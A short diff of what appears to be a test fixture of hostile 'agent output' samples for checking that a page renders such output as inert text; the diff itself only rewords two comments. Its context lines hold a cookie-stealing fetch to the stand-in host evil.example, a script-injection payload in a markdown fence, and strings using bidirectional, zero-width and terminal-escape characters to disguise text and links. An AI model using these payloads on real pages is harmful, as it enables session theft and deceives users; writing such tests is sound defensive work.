@@ -1,6 +1,5 @@
 /*
- * Hostile output of an agent. If a page treated it as more than text, it would set `pwned`, send a request to another host,
- * leave the page, or pretend to be something else.
+ * Malicious agent output. If a page treated it as more than text, it would set `pwned`, send a request to another host, leave the page, or pretend to be something else.
  */
 
 const DO_HARM = "window.pwned=1;fetch('https://evil.example/'+document.cookie)";
@@ -31,7 +30,7 @@ const MARKDOWN = [
   `\`\`\`"><script>window.pwned=1</script>\n<b>bold</b>\n\`\`\``,
 ];
 
-/** Characters that make a text look like another one. */
+/** Characters that make one string look like another. */
 const DISGUISES = [
   'access granted \u202Eresu ni deggol\u202C \u2066hidden\u2069 zero\u200Bwidth\uFEFF',
   '\u001B[31mred\u001B[0m \u001B]8;;https://evil.example/\u0007link\u001B]8;;\u0007 \u001B[2J\u001B[1;1Hcleared',
